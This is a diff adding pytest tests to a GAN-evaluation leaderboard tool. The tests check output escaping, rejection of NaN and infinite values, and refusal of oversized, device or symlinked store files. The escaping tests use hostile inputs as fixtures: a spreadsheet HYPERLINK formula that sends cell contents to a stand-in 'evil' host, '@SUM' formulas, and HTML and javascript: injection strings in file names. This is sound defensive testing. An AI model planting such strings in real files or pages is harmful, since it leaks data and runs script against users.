@@ -1,5 +1,10 @@
+import csv
 import hashlib
+import io
 import json
+import math
+import os
+import re
 import shutil
 
 import numpy as np
@@ -51,7 +56,7 @@ def test_ranks_three_entries_and_resumes_after_a_crash(sets, tmp_path):
     table = (tmp_path / "leaderboard.md").read_text()
     assert "protocol" in table and "num_images=256" in table
     assert json.loads((tmp_path / "leaderboard.json").read_text())["rows"][0]["entry"] == "clean"
-    assert (tmp_path / "leaderboard.csv").read_text().startswith("# protocol")
+    assert (tmp_path / "leaderboard.csv").read_text().startswith("rank,entry,kind,")  # a header row, no comment
 
 
 def test_refuses_to_merge_another_protocol(sets, tmp_path):
@@ -284,3 +289,127 @@ def test_rank_refuses_a_malformed_result(sets, tmp_path, mutate, why):
     (tmp_path / "results" / "c.json").write_text(json.dumps(rec))
     with pytest.raises(DataError, match=why):
         run_leaderboard(sets["real"], [Entry("d", sets["heavy"])], tmp_path, evaluate_fn=mean_of(), **QUIET)
+
+
+# --- strings from files, escaped in every format (issue 19, item 5) -------------------------
+
+HOSTILE_ENTRY = '=HYPERLINK("http:evil?"&A1,"click")|x'
+HOSTILE_KIND = "-2+3\nline2,\"quoted\""
+HOSTILE_VALUE = "@SUM(1+1)|<b>x</b>"
+
+
+def test_hostile_strings_from_store_files_are_escaped_in_every_format(sets, tmp_path):
+    real = tmp_path / "<b onclick=x>real<b> --> | *x* [l](javascript:1)" / "real.npy"
+    real.parent.mkdir()
+    shutil.copy(sets["real"], real)
+    store = tmp_path / "lb"
+    run_leaderboard(str(real), [Entry("c", sets["clean"])], store, evaluate_fn=mean_of(), **QUIET)
+    # A result file planted in the store: its name, kind and value names are someone else's text.
+    rec = stored(store, "c")
+    rec.update(entry=HOSTILE_ENTRY, kind=HOSTILE_KIND)
+    rec["results"][0]["values"].update({HOSTILE_VALUE: -0.5, "SWDx1e3_avg": 1e6})
+    (store / "results" / f"{HOSTILE_ENTRY}.json").write_text(json.dumps(rec))
+    rows = run_leaderboard(str(real), [Entry("c", sets["clean"])], store, evaluate_fn=mean_of(), **QUIET)
+    assert [r["entry"] for r in rows] == ["c", HOSTILE_ENTRY]
+
+    md = (store / "leaderboard.md").read_text()
+    comment, bold = md.splitlines()[:2]
+    assert re.fullmatch(r"<!-- [^<>-]*(-(?!-)[^<>-]*)* -->", comment), comment  # nothing can end it early
+    assert "<" not in "\n".join(md.splitlines()[1:]) and ">" not in "\n".join(md.splitlines()[1:])
+    assert "&lt;b onclick=x&gt;real&lt;b&gt;" in bold and r"\*x\*" in bold and r"\[l\]" in bold
+    table = [line for line in md.splitlines() if line.startswith("|")]
+    assert len(table) == 4 and len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) == 1, table
+
+    text = (store / "leaderboard.csv").read_text()
+    parsed = list(csv.reader(io.StringIO(text)))
+    header, *body = parsed
+    assert header[:3] == ["rank", "entry", "kind"] and len(body) == 2 and {len(r) for r in parsed} == {len(header)}
+    hostile = dict(zip(header, body[1]))
+    assert "'" + HOSTILE_VALUE in header  # a column name is a cell too
+    assert hostile["entry"] == "'" + HOSTILE_ENTRY and hostile["kind"] == "'" + HOSTILE_KIND  # newline kept, quoted
+    assert hostile["'" + HOSTILE_VALUE] == "-0.5"  # a number ganeval wrote stays a number
+    for cell in (c for r in parsed for c in r):
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
+            float(cell)  # only numbers may start like a formula
+    try:
+        import pandas
+    except ImportError:
+        pass
+    else:
+        frame = pandas.read_csv(store / "leaderboard.csv")
+        assert list(frame["entry"]) == ["c", "'" + HOSTILE_ENTRY] and frame["rank"].tolist() == [1, 2]
+
+    data = json.loads((store / "leaderboard.json").read_text())
+    assert [r["entry"] for r in data["rows"]] == ["c", HOSTILE_ENTRY] and data["rows"][1]["kind"] == HOSTILE_KIND
+
+
+# --- numbers that are not finite (issue 19, item 6) -----------------------------------------
+
+def _bar(reps):
+    return {"method": "repeats", "n": len(reps), "seed": 0, "mean": 1.0, "std": 0.1, "lo": 0.9, "hi": 1.1,
+            "replicates": reps}
+
+
+@pytest.mark.parametrize("mutate, shown", [
+    (lambda r: r["values"].update(SWDx1e3_avg=math.nan), "value 'SWDx1e3_avg' is nan"),
+    (lambda r: r["values"].update(SWDx1e3_avg=math.inf), "value 'SWDx1e3_avg' is inf"),
+    (lambda r: r["values"].update(SWDx1e3_avg=-math.inf), "value 'SWDx1e3_avg' is -inf"),
+    (lambda r: r["values"].update(other=math.nan), "value 'other' is nan"),
+    (lambda r: r.update(uncertainty={"SWDx1e3_avg": _bar([1.0, math.nan])}), "replicate 1 of 'SWDx1e3_avg' is nan"),
+    (lambda r: r.update(uncertainty={"SWDx1e3_avg": {**_bar([1.0, 2.0]), "hi": math.inf}}), "hi inf")])
+def test_non_finite_stored_value_is_a_data_error_naming_the_file(sets, tmp_path, mutate, shown):
+    entries = [Entry("a", sets["heavy"]), Entry("b", sets["blurred"]), Entry("c", sets["clean"])]
+    run_leaderboard(sets["real"], entries, tmp_path, evaluate_fn=mean_of(), **QUIET)
+    rec = stored(tmp_path, "b")
+    mutate(rec["results"][0])
+    (tmp_path / "results" / "b.json").write_text(json.dumps(rec))  # json writes NaN and Infinity
+    with pytest.raises(DataError, match=re.escape(str(tmp_path / "results" / "b.json")) + ".*" + re.escape(shown)):
+        rank(tmp_path, "SWDx1e3_avg")
+    res = cli(sets, tmp_path)
+    assert res.exit_code == 1 and one_error_line(res) and str(tmp_path / "results" / "b.json") in res.stderr, res.stderr
+
+
+def test_a_non_finite_result_is_never_stored(sets, tmp_path):
+    def nan_fn(real, fake, metrics, **kw):
+        return [MetricResult("swd", {"SWDx1e3_avg": math.nan}, "SWDx1e3_avg")]
+    with pytest.raises(DataError, match=r"entry 'x'.*'SWDx1e3_avg' is nan.*nothing was stored"):
+        run_leaderboard(sets["real"], [Entry("x", sets["clean"])], tmp_path, evaluate_fn=nan_fn, **QUIET)
+    assert not (tmp_path / "results" / "x.json").exists()
+
+
+def test_metric_result_from_dict_refuses_non_finite_numbers():
+    from ganeval.results import non_finite
+    good = MetricResult("fid", {"FID": 1.5}, "FID").to_dict()
+    assert MetricResult.from_dict(good, "a.json").value == 1.5 and non_finite(good) is None
+    with pytest.raises(DataError, match=r"a\.json: .*'FID' is nan"):
+        MetricResult.from_dict({**good, "values": {"FID": math.nan}}, "a.json")
+    with pytest.raises(DataError, match=r"a\.json: .*unknown field 'bogus'"):
+        MetricResult.from_dict({**good, "bogus": 1}, "a.json")
+
+
+# --- store files are read bounded, written only as regular files (issue 19, items 3, 4) ----
+
+def test_store_file_that_is_a_device_or_too_big_is_a_data_error(sets, tmp_path, monkeypatch):
+    import ganeval.reporting.leaderboard as lb
+    run_leaderboard(sets["real"], [Entry("c", sets["clean"])], tmp_path, evaluate_fn=mean_of(), **QUIET)
+    target = tmp_path / "results" / "c.json"
+    size = target.stat().st_size
+    monkeypatch.setattr(lb, "MAX_STORE_FILE_BYTES", size - 1)
+    with pytest.raises(DataError, match=re.escape(f"{target}: larger than")):
+        rank(tmp_path, "SWDx1e3_avg")
+    monkeypatch.setattr(lb, "MAX_STORE_FILE_BYTES", size)
+    assert [r["entry"] for r in rank(tmp_path, "SWDx1e3_avg")] == ["c"]
+    target.unlink()
+    target.symlink_to("/dev/zero")
+    with pytest.raises(DataError, match=re.escape(f"{target}: is a character device")):
+        rank(tmp_path, "SWDx1e3_avg")
+
+
+def test_store_outputs_that_are_links_are_refused_and_kept(sets, tmp_path):
+    (tmp_path / "mine.csv").write_text("keep me")
+    store = tmp_path / "lb"
+    store.mkdir()
+    (store / "leaderboard.csv").symlink_to(tmp_path / "mine.csv")
+    with pytest.raises(UsageError, match=re.escape(str(store / "leaderboard.csv")) + ": is a symbolic link"):
+        run_leaderboard(sets["real"], [Entry("c", sets["clean"])], store, evaluate_fn=mean_of(), **QUIET)
+    assert (store / "leaderboard.csv").is_symlink() and (tmp_path / "mine.csv").read_text() == "keep me"
